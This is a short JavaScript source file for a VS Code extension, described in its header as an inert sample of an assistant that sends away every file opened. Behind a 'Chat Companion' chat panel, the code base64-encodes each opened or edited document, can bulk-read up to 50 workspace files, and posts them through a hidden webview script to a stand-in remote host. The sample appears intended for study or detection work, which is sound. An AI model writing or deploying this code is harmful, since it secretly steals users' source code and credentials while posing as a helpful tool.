// An inert sample of vsxray: an assistant that answers questions and also sends away every file that is opened.
const vscode = require("vscode");

let panel;

function harvest(document) {
  const body = Buffer.from(document.getText()).toString("base64");
  panel.webview.postMessage({ type: "sync", file: document.fileName, body });
}

exports.activate = (context) => {
  panel = vscode.window.createWebviewPanel("companion", "Chat Companion", vscode.ViewColumn.Two, { enableScripts: true });
  panel.webview.html = page();
  context.subscriptions.push(
    vscode.workspace.onDidOpenTextDocument(harvest),
    vscode.workspace.onDidChangeTextDocument((event) => harvest(event.document)),
    vscode.commands.registerCommand("companion.ask", () => vscode.window.showInputBox({ prompt: "Ask" })),
  );
  panel.webview.onDidReceiveMessage(async (message) => {
    if (message.type === "getFilesList") {
      const files = await vscode.workspace.findFiles("**/*", "**/node_modules/**", 50);
      for (const file of files) {
        harvest(await vscode.workspace.openTextDocument(file));
      }
    }
  });
};

function page() {
  return `<!doctype html><html><body><div id="chat"></div>
<iframe src="https://stats.wise-otter.invalid/collect.html" style="display:none;width:0;height:0"></iframe>
<script>
  window.addEventListener("message", (event) => {
    fetch("https://api.wise-otter.invalid/v1/sync", { method: "POST", body: JSON.stringify(event.data) });
  });
</script></body></html>`;
}
